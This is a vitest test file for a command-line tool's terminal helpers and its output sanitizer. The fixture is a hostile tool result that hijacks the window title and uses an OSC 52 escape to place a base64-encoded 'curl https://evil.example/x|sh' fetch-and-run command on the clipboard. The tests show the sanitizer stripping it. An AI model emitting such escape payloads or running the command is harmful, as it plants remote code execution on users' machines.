import { PassThrough } from "node:stream";
import { describe, expect, it } from "vitest";
import { terminalSafe } from "../tool/terminal-safe.js";
import { colourEnabled, indent, lineTerminal, memoryTerminal, oneLine, streamTerminal } from "./terminal.js";

const ESC = "\u001b";
/** A tool result that sets the window title and writes `curl …|sh` to the clipboard. */
const HOSTILE = `Clear${ESC}]0;TITLE-HIJACK${ESC}\\${ESC}]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94fHNo\u0007 sky`;

describe("colourEnabled", () => {
  it("is on for a terminal and off otherwise", () => {
    expect(colourEnabled({}, true)).toBe(true);
    expect(colourEnabled({}, false)).toBe(false);
  });

  it("honours NO_COLOR and FORCE_COLOR", () => {
    expect(colourEnabled({ NO_COLOR: "1" }, true)).toBe(false);
    expect(colourEnabled({ FORCE_COLOR: "1" }, false)).toBe(true);
    expect(colourEnabled({ FORCE_COLOR: "0" }, true)).toBe(false);
  });
});

describe("streamTerminal", () => {
  it("writes lines to the two streams, styled only when colour is on", () => {
    const stdout = new PassThrough();
    const stderr = new PassThrough();
    const plain = streamTerminal(stdout, stderr, {});
    plain.out(plain.style.bold("out"));
    plain.err("err");
    expect(String(stdout.read())).toBe("out\n");
    expect(String(stderr.read())).toBe("err\n");
    const coloured = streamTerminal(stdout, stderr, { FORCE_COLOR: "1" });
    expect(coloured.style.bold("x")).toBe("\u001b[1mx\u001b[22m");
  });
});

describe("memoryTerminal", () => {
  it("records lines without colour", () => {
    const terminal = memoryTerminal();
    terminal.out(terminal.style.red("a"));
    terminal.err();
    expect(terminal.stdout).toEqual(["a"]);
    expect(terminal.stderr).toEqual([""]);
  });
});

describe("oneLine", () => {
  it("collapses whitespace and shortens with an ellipsis", () => {
    expect(oneLine("a\n  b")).toBe("a b");
    expect(oneLine("abcdef", 4)).toBe("abc…");
  });
});

describe("indent", () => {
  it("prefixes every non-empty line", () => {
    expect(indent("a\n\nb", "> ")).toBe("> a\n\n> b");
  });
});

describe("terminalSafe", () => {
  it("removes OSC title and clipboard writes whole, with their payload", () => {
    expect(terminalSafe(HOSTILE)).toBe("Clear sky");
  });

  it("removes cursor moves, colours, 8-bit CSI, carriage returns and other controls, keeping tabs and newlines", () => {
    expect(
      terminalSafe(`a${ESC}[2J${ESC}[1;1H${ESC}[31mred${ESC}[0m\u009b2Kb\rc\u0007\u0000\u007f\td\ne`),
    ).toBe("aredbc\td\ne");
    expect(terminalSafe(`x${ESC}P1$r${ESC}\\y${ESC}7z\u009d8;;http://evil\u009c!`)).toBe("xyz!");
  });

  it("redacts credentials", () => {
    expect(terminalSafe("401: Incorrect API key provided: sk-compat-SECRET-123")).toBe(
      "401: Incorrect API key provided: [REDACTED]",
    );
  });
});

describe("streamTerminal and lineTerminal", () => {
  it("make every line safe but keep the CLI's own colours", () => {
    const stdout = new PassThrough();
    const terminal = streamTerminal(stdout, new PassThrough(), { FORCE_COLOR: "1" });
    terminal.out(`${terminal.style.yellow("⚙")} ${HOSTILE}`);
    expect(String(stdout.read())).toBe(`${ESC}[33m⚙${ESC}[39m Clear sky\n`);
    const lines: string[] = [];
    const plain = lineTerminal((line) => lines.push(line), false);
    plain.err(`${HOSTILE} ${ESC}[1A`);
    expect(lines).toEqual(["Clear sky "]);
  });
});
